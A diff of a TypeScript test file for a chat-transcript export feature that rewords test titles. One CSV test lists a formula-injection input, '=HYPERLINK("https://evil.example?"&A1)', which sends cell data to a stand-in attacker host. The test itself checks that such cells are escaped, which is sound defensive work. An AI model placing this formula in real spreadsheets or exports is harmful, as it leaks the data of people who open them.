@@ -55,7 +55,7 @@ const lines = async (query: Record<string, string>, credential = ALICE) =>
     .filter(Boolean)
     .map((line) => JSON.parse(line) as { conversation_id: string; transcript: { content: string }[] });
 
-test('JSON lines hold the fields of a read and the transcript, by the filters of the list', async () => {
+test('JSON lines contain the fields of a read and the transcript, and use the filters of the list', async () => {
   const pal_id = await world.pal();
   const first = await converse(pal_id, ['Hello.\nDo you sell "bikes"?', 'Yes, we do.']);
   world.clock.move(1);
@@ -85,7 +85,7 @@ test('JSON lines hold the fields of a read and the transcript, by the filters of
   );
 });
 
-test('more conversations than are read at once come once each, in both orders', async () => {
+test('an export of several batches contains each conversation once, in both orders', async () => {
   const pal_id = await world.pal();
   const ids: string[] = [];
   for (let count = 0; count < 120; count++) {
@@ -119,7 +119,7 @@ describe('CSV', () => {
     assert.ok(records[3]!.startsWith(`${second},Call,ended,`) && records[3]!.endsWith(',,,,,'), records[3]);
   });
 
-  test('makes no cell a formula', async () => {
+  test('escapes cells that a spreadsheet would take as a formula', async () => {
     const pal_id = await world.pal();
     const formulas = [
       '=HYPERLINK("https://evil.example?"&A1)',
@@ -152,7 +152,7 @@ describe('a slow reader', () => {
     return answer;
   };
 
-  test('holds one of two places until it goes, and does not fill the memory', async () => {
+  test('occupies one of two places until it closes, and does not fill the memory', async () => {
     const pal_id = await world.pal();
     for (let count = 0; count < 6; count++)
       await converse(
